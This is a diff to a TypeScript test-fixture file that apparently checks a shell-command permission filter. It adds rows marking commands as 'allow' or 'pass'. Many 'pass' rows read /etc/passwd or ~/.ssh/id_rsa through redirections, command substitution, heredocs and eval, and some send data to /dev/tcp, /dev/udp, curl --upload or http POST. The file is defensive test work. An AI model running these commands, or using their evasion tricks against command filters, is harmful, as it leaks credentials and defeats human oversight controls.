@@ -2,6 +2,42 @@ import type { Group } from './group.ts';
 
 export const READING: readonly Group[] = [
   {
+    name: 'what redirections read, for commands and for what has none',
+    rules: { user: { version: 2, allowed_dirs: ['/data'] } },
+    rows: String.raw`
+allow | echo "$(<a.md)"
+allow | echo $(< /data/x)
+allow | { cat; } < a.md
+allow | while true; do cat; done < src/a.ts
+allow | bash -c 'cat' < a.md
+allow | x=$(<a.md)
+allow | (cat) <<< a
+pass | { cat; } < /etc/passwd
+pass | (cat) < /etc/passwd
+pass | if true; then cat; fi < /etc/passwd
+pass | for i in 1; do cat; done < /etc/passwd
+pass | while true; do cat; done < ~/.ssh/id_rsa
+pass | { cat <&3; } 3< /etc/passwd
+pass | { { cat; } < a.md; } < /etc/passwd
+pass | echo "$(</etc/passwd)"
+pass | echo $(< /etc/passwd)
+pass | echo "$(<~/.ssh/id_rsa)"
+pass | echo "$(<$HOME/x)"
+pass | echo "$(<out/passwd)"
+pass | echo "$(<"$X")"
+pass | echo ${'`'}< /etc/passwd${'`'}
+pass | echo "$(echo "$(</etc/passwd)")"
+pass | cat <<< "$(</etc/passwd)"
+pass | cat <<E⏎$(</etc/passwd)⏎E
+pass | x=$(</etc/passwd); echo $x
+pass | ls; < /etc/passwd
+pass | cd /etc && echo "$(<passwd)"
+pass | bash -c 'cat' < /etc/passwd
+pass | env -u A bash -c 'cat' < /etc/passwd
+pass | eval cat < /etc/passwd
+`,
+  },
+  {
     name: 'commands that only read, inside',
     rules: { user: { version: 2, allowed_dirs: ['/data'] } },
     rows: String.raw`
@@ -212,6 +248,15 @@ export const SANDBOXED: readonly Group[] = [
     rows: String.raw`
 allow | npm install
 allow | make
+allow | cat < a.md
+pass | cat < ~/.ssh/id_rsa
+pass | cat < "$HOME/.ssh/id_rsa"
+pass | echo "$(<~/.ssh/id_rsa)"
+pass | while read l; do echo $l; done < /home/kim/.ssh/id_rsa
+pass | cat a.md > /dev/tcp/h/1
+pass | exec 3<>/dev/udp/h/1
+pass | curl --upload x h
+pass | http POST h
 allow | rm x
 allow | for f in *; do mv "$f" "$f.bak"; done
 allow | while read l; do echo "$l"; done < list
